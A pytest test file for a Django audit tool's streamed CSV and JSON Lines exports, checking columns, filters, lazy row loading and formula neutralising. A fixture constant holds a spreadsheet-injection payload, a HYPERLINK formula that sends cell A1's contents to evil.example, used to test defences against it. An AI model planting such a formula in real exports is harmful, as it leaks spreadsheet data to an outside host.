"""Exporting the current audit search as CSV and JSON Lines, streamed."""

import csv
import io
import json

import pytest
from django.db import connection
from django.db.models.query import QuerySet
from django.test import Client
from django.test.utils import CaptureQueriesContext

from predictions.models import Prediction
from reviews import exports, services
from reviews.models import Decision
from tests.reviews.factories import digest_of

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture
def auditor_client(make_user) -> Client:
    client = Client()
    client.force_login(make_user("auditor", "audrey"))
    return client


@pytest.fixture
def reviewed(make_items, analyst) -> list[Prediction]:
    """Three predictions in review: alice overrode the first with a formula-like note, confirmed
    the second; the third still waits."""
    items = make_items(3)
    for item, outcome, reason, note in [
        (items[0], "overridden", "data_error", FORMULA),
        (items[1], "confirmed", "", "fine"),
    ]:
        services.review_item_claim(item_id=item.pk, user=analyst)
        services.decision_record(
            item_id=item.pk,
            user=analyst,
            outcome=outcome,
            reason=reason,
            note=note,
            seen_digest=digest_of(item),
        )
    return [Prediction.objects.select_related("explanation").get(pk=item.prediction_id) for item in items]


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


def _csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(_body(response))))


def _jsonl_rows(response) -> list[dict]:
    return [json.loads(line) for line in _body(response).splitlines()]


EXPORTS = [("/audit/export.csv", _csv_rows), ("/audit/export.jsonl", _jsonl_rows)]


def test_the_csv_export_streams_every_column(auditor_client, reviewed):
    response = auditor_client.get("/audit/export.csv")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="predictions-')
    assert response["Content-Disposition"].endswith('.csv"')
    text = _body(response)
    assert text.splitlines()[0].split(",") == exports.COLUMNS
    assert len(list(csv.DictReader(io.StringIO(text)))) == 3


def test_the_csv_export_holds_explanations_and_reviews(auditor_client, reviewed):
    confirmed = reviewed[1]

    rows = {row["request_id"]: row for row in _csv_rows(auditor_client.get("/audit/export.csv"))}

    row = rows[confirmed.request_id]
    assert json.loads(row["features"]) == confirmed.features
    assert float(row["explanation_base_value"]) == confirmed.explanation.base_value
    assert json.loads(row["explanation_values"]) == confirmed.explanation.values
    assert json.loads(row["reason_codes"]) == confirmed.reason_codes
    assert float(row["score"]) == confirmed.score
    review = {name: row[name] for name in ["decision", "reviewer", "reason", "note"]}
    assert review == {"decision": "confirmed", "reviewer": "alice", "reason": "", "note": "fine"}
    assert row["final_label"] == confirmed.label
    waiting = rows[reviewed[2].request_id]
    assert (waiting["decision"], waiting["reviewer"], waiting["final_label"]) == ("", "", "")


def test_the_csv_export_neutralises_a_formula_in_a_note(auditor_client, reviewed):
    rows = {row["request_id"]: row for row in _csv_rows(auditor_client.get("/audit/export.csv"))}

    note = rows[reviewed[0].request_id]["note"]
    assert note == "'" + FORMULA
    assert Decision.objects.get(review_item__prediction=reviewed[0]).note == FORMULA


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised(prefix):
    assert exports._cell(f"{prefix}1+1") == f"'{prefix}1+1"


def test_the_jsonl_export_streams_one_object_per_line(auditor_client, reviewed):
    overridden = reviewed[0]

    response = auditor_client.get("/audit/export.jsonl")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "application/x-ndjson"
    assert response["Content-Disposition"].endswith('.jsonl"')
    rows = {row["request_id"]: row for row in _jsonl_rows(response)}
    assert len(rows) == 3
    row = rows[overridden.request_id]
    assert set(row) == set(exports.COLUMNS)
    assert row["features"] == overridden.features
    assert row["explanation_values"] == overridden.explanation.values
    assert row["explanation_base_value"] == overridden.explanation.base_value
    assert (row["decision"], row["reviewer"], row["reason"]) == ("overridden", "alice", "data_error")
    assert row["note"] == FORMULA  # JSON is data, not a spreadsheet: kept as written
    assert row["final_label"] != row["label"]
    assert rows[reviewed[2].request_id]["decision"] is None


@pytest.mark.parametrize(("url", "parse"), EXPORTS)
def test_the_exports_honour_the_current_filters(auditor_client, reviewed, url, parse):
    overridden = parse(auditor_client.get(url, {"decision": "overridden"}))
    by_request = parse(auditor_client.get(url, {"request_id": reviewed[2].request_id}))
    decided = parse(auditor_client.get(url, {"status": "reviewed", "ordering": "created_at"}))

    assert [row["request_id"] for row in overridden] == [reviewed[0].request_id]
    assert [row["request_id"] for row in by_request] == [reviewed[2].request_id]
    assert sorted(row["request_id"] for row in decided) == sorted(p.request_id for p in reviewed[:2])


@pytest.mark.parametrize(("url", "parse"), EXPORTS)
def test_an_export_with_a_bad_filter_exports_nothing(auditor_client, reviewed, url, parse):
    response = auditor_client.get(url, {"score_min": "high"})

    assert response.status_code == 200
    assert parse(response) == []


def test_an_export_reads_rows_only_as_the_response_is_consumed(auditor_client, reviewed, monkeypatch):
    # The rows come from QuerySet.iterator (no result cache), pulled one by one as the
    # response is sent: never a list of the whole result.
    pulled, chunk_sizes = [], []
    real_iterator = QuerySet.iterator

    def watched_iterator(queryset, chunk_size=None):
        chunk_sizes.append(chunk_size)
        for row in real_iterator(queryset, chunk_size=chunk_size):
            pulled.append(row.request_id)
            yield row

    monkeypatch.setattr(QuerySet, "iterator", watched_iterator)

    with CaptureQueriesContext(connection) as queries:
        response = auditor_client.get("/audit/export.jsonl")
    assert response.status_code == 200
    assert not any("predictions_prediction" in q["sql"] for q in queries.captured_queries)
    assert pulled == []

    stream = iter(response.streaming_content)
    first = json.loads(next(stream))
    assert pulled == [first["request_id"]]
    rest = [json.loads(line) for line in stream]

    assert chunk_sizes == [exports.CHUNK_SIZE]
    assert len(rest) == 2
    assert pulled == [first["request_id"]] + [row["request_id"] for row in rest]
